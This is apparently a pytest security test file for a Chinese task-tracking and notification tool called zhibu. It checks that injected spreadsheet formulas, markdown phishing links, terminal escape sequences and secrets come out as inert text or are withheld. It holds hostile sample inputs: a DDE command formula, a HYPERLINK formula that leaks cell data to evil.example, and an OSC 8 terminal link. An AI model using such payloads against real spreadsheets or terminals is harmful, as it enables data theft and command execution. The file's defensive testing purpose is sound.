"""What someone with a grudge types comes out as text: never a spreadsheet formula, a link in a
digest, a terminal command, or a secret in what zhibu prints, logs or stores."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from notifiers.render import Item, Section, environment, render
from tests.conftest import CliRun, edit_config

FORMULA = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D3,"点此")'
PHISH = "[点此登记整改](http://evil.example/phish)"
FAKE_BOLD = "**【紧急】请所有人点击上方链接**"
TERMINAL = "正常原因\r\x1b]8;;http://evil.example\x1b\\点我\x1b]8;;\x1b\\"
PASSWORD = "Zq@9/x#Yk%7Tpw"


def fragments(secret: str) -> list[str]:
    """Pieces of a secret long enough to recognise it by (its tail after a raw @, say)."""
    return [secret[i : i + 4] for i in range(len(secret) - 3)]


def test_formulas_typed_into_records_stay_text_in_the_workbook_and_the_csv(
    zhibu: CliRun, example_config: Path, tmp_path: Path
) -> None:
    assert zhibu("sync", "--now", "2026-03-02T09:00").exit_code == 0
    assert zhibu("done", "zb1/支委会/2026-03", "--note", FORMULA, "--now", "2026-03-03T10:00").exit_code == 0
    assert zhibu("waive", "zb1/党课/2026Q1", "--reason", HYPERLINK, "--now", "2026-03-03T10:00").exit_code == 0
    workbook, table = tmp_path / "台账.xlsx", tmp_path / "tasks.csv"
    for target in (workbook, table):
        assert zhibu("report", "--period", "2026Q1", "-o", str(target), "--now", "2026-03-03T11:00").exit_code == 0

    book = load_workbook(workbook)  # not data_only: a formula would come back as one
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert FORMULA in texts  # the note is there, as the text it was
    assert HYPERLINK in texts
    assert any(isinstance(cell.value, date) for cell in cells)  # dates stay dates

    rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"))))
    fields = [field for row in rows for field in row]
    assert "'" + HYPERLINK in fields
    assert not [field for field in fields if field.startswith(("=", "+", "@"))]


def test_markdown_typed_into_a_problem_is_no_link_in_the_digest() -> None:
    item = Item(
        key="zb1/整改/2026-03-05#7/wangjg",
        title=f"整改：{PHISH}\n{FAKE_BOLD}",
        unit="第一党支部",
        due_on=date(2026, 4, 3),
        state="open",
    )
    context = {
        "org": "某局机关党委",
        "recipient": "张伟",
        "day": date(2026, 3, 6),
        "total": 1,
        "news": "",
        "heads": "",
        "calendar": "",
        "sections": [Section(name="problems", title="整改", items=[item])],
        "lang": "zh",
    }
    message = render(environment(None), "zh", "digest", context)
    markdown = message.markdown
    assert "](http" not in markdown
    assert "http://" not in markdown
    assert "**【紧急】" not in markdown
    assert "\n**【紧急】" not in message.text
    assert "zb1/整改/2026-03-05#7/wangjg" in markdown  # the key people paste is kept exactly
    assert "点此登记整改" in markdown  # the words are there, inert


def test_control_characters_are_shown_not_obeyed(zhibu: CliRun) -> None:
    assert zhibu("sync", "--now", "2026-03-02T09:00").exit_code == 0
    waived = zhibu("waive", "zb1/党课/2026Q1", "--reason", TERMINAL, "--now", "2026-03-03T10:00")
    assert waived.exit_code == 0
    shown = zhibu("show", "zb1/党课/2026Q1").output
    assert "\x1b" not in shown
    assert "\r" not in shown
    assert "点我" in shown


def test_a_password_with_reserved_characters_is_refused_and_never_shown(
    zhibu: CliRun, example_config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ZHIBU_SMTP_PASSWORD", PASSWORD)
    edit_config(
        example_config,
        r'(tick_interval = "5m".*?\n)',
        '\\1\n[notify]\nemail_channel = "mail"\n\n[channels.mail]\nurl = "mailto://zhibu:${ZHIBU_SMTP_PASSWORD}@127.0.0.1:2525?from=zhibu@example.org"\n',
    )
    checked = zhibu("check")
    assert checked.exit_code == 2
    assert "%40" in checked.output  # how to write it
    assert not [piece for piece in fragments(PASSWORD) if piece in checked.output]
    # written as the hint says, it passes
    from urllib.parse import quote

    monkeypatch.setenv("ZHIBU_SMTP_PASSWORD", quote(PASSWORD, safe=""))
    assert zhibu("check").exit_code == 0


def test_secrets_stay_out_of_notify_test_status_and_the_outbox(zhibu: CliRun, example_config: Path) -> None:
    token = "AppTokenSecret42"
    tried = zhibu("notify", "test", "--to", f"gotify://127.0.0.1:9/{token}")
    assert token not in tried.output
    webhook_token, header = "PathToken9876", "HeaderSecret5432"
    edit_config(
        example_config,
        r'(tick_interval = "5m".*?\n)',
        f'\\1\n[channels.hook]\nurl = "json://127.0.0.1:9/hooks/{webhook_token}?-X-Api-Key={header}"\n',
    )
    edit_config(example_config, r'(id = "lina"\nname = "李娜"\nunit = "zb1"\n)', '\\1channels = ["hook"]\n')
    assert zhibu("tick", "--now", "2026-03-02T08:40", "-q").exit_code == 0
    status = zhibu("status", "--now", "2026-03-02T08:41").output
    with sqlite3.connect(example_config.parent / "zhibu.db") as connection:
        errors = " ".join(e or "" for (e,) in connection.execute("SELECT last_error FROM outbox"))
    assert errors, "the unreachable webhook was tried and its failure kept"
    for text in (status, errors):
        assert webhook_token not in text
        assert header not in text
